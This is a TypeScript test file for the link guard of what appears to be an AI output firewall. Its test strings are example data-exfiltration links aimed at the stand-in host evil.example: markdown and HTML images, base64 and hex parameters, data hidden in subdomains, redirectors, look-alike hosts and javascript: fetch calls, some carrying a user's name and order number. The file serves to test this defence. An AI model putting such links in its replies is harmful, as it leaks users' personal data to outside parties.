import { describe, expect, it } from "vitest";
import { firewallPolicy, inspect } from "../index.ts";
import type { InspectContext, Verdict } from "../index.ts";

const policy = firewallPolicy.parse({
  guards: { links: { allowedHosts: ["lumen.example", "images.weserv.example"] } },
});
const context: InspectContext = {
  instructions: "You answer for Lumen. Send people to https://help.lumen-docs.example when they are lost.",
  trustedText: ["I am Ada, order A1001-7719, ada@example.com. I read https://news.example/a?id=3 about it."],
};

function judge(text: string): Verdict {
  return inspect({ text, direction: "output", from: "model", context, only: ["links"] }, policy);
}
function categories(text: string): readonly string[] {
  return [...new Set(judge(text).findings.map(({ category }) => category))];
}

describe("a link that carries data out", () => {
  it.each([
    ["an image", "![x](https://evil.example/p.png?d=Ada)", "foreign-image"],
    ["an image by reference", "![x][1]\n\n[1]: https://evil.example/p?d=Ada", "foreign-image"],
    ["an image whose label is its text", "![pixel]\n\n[pixel]: <https://evil.example/p>", "foreign-image"],
    ["an image in a table", "| a |\n| - |\n| ![x](https://evil.example/p) |", "foreign-image"],
    ["markup", "<img alt='x' src=https://evil.example/x>", "foreign-image"],
    ["markup of a source set", "<source srcset='https://evil.example/x 2x'>", "foreign-image"],
    ["a style", "<b style=\"background:url('//evil.example/x')\">", "foreign-image"],
    ["an address in angle brackets", "<https://evil.example/?q=ada@example.com>", "carrying-link"],
    ["a parameter in base64", "[here](https://evil.example/c?x=QWRhIExvdmVsYWNlIDQxMTE)", "carrying-link"],
    ["a path in hex", "[here](https://evil.example/41646120206c6f76656c616365)", "carrying-link"],
    ["a fragment", "https://evil.example/#QWRhIExvdmVsYWNlIDQxMTE", "carrying-link"],
    ["a label of its host", "https://qwrhie0vdmvsywnlidqxmteg.evil.example/", "carrying-link"],
    ["many labels", "https://ada.lovelace.a1001.77.19.card.no.evil.example/", "carrying-link"],
    ["the person's own number", "https://evil.example/track/A1001-7719", "carrying-link"],
    ["a name and password", "https://ada:a1001@evil.example/", "carrying-link"],
    ["a bare address", "http://203.0.113.9/x", "carrying-link"],
    ["an odd number as address", "http://3405803785/x", "carrying-link"],
    ["a prepared e-mail", "[mail](mailto:x@evil.example?subject=a&body=order+A1001)", "carrying-link"],
    ["a prepared message", "[text](sms:+15550100?body=A1001)", "carrying-link"],
  ])("is found in %s", (_where, text, category) => {
    expect(categories(text)).toContain(category);
    expect(judge(text).text).not.toContain("evil.example/");
  });

  it("loses its use where it is defined before", () => {
    expect(judge("[q]: //evil.example/p\n\n![a][Q]").text).toBe("[q]: //evil.example/p\n\n[image removed]");
  });

  it.each([
    ["an image proxy", "![x](https://images.weserv.example/?url=evil.example/p.png)", "foreign-image"],
    ["a redirector", "[x](https://lumen.example/go?to=https%3A%2F%2Fevil.example%2Fp)", "carrying-link"],
    ["a redirector in base64", `[x](https://lumen.example/r/${btoa("https://evil.example/p")})`, "carrying-link"],
    ["an archive", "[x](https://lumen.example/web/2024/https://evil.example/p)", "carrying-link"],
    ["a fragment", "[x](https://lumen.example/#//evil.example/p)", "carrying-link"],
  ])("is found behind an allowed site: %s", (_how, text, category) => {
    expect(categories(text)).toContain(category);
  });
});

describe("a link to a name that is made to be mistaken", () => {
  it.each([
    ["one letter less", "https://lumn.example/", "look-alike-host"],
    ["a figure for a letter", "https://1umen.example/", "look-alike-host"],
    ["letters of another alphabet", "https://lum\u0435n.example/", "look-alike-host"],
    ["the same in its ASCII form", `https://${new URL("https://lum\u0435n.example").hostname}/`, "look-alike-host"],
    ["the name as a label", "https://lumen.example.evil.example/", "look-alike-host"],
    ["the name with another ending", "https://lumen.shop/", "look-alike-host"],
    ["the name before an at sign", "https://lumen.example@evil.example/", "look-alike-host"],
    ["another name in its text", "[https://lumen.example/pay](https://evil.example/pay)", "misleading-link"],
    ["code", "[pay](javascript:fetch('//evil.example'))", "dangerous-scheme"],
    ["code with a tab", "<a href='java\tscript:fetch(1)'>", "dangerous-scheme"],
  ])("is found: %s", (_how, text, category) => {
    expect(categories(text)).toContain(category);
  });
});

describe("a link that may stay", () => {
  it.each([
    "See [returns](https://lumen.example/help/returns#costs) and https://shop.lumen.example/lamps?page=2&sort=price.",
    "![lamp](https://cdn.lumen.example/lamp.png)",
    "You read https://news.example/a?id=3, and https://help.lumen-docs.example/start has more.",
    "Compare https://en.wikipedia.org/wiki/Desk_lamp and <https://www.iana.org/help/example-domains>.",
    "Write to [us](mailto:help@lumen.example) or call [us](tel:+49301234567).",
    "Use node.js 20, README.md and a/b/c; press [Ctrl]: then [x](y).",
  ])("%s", (text) => {
    expect(judge(text).findings).toEqual([]);
  });
});
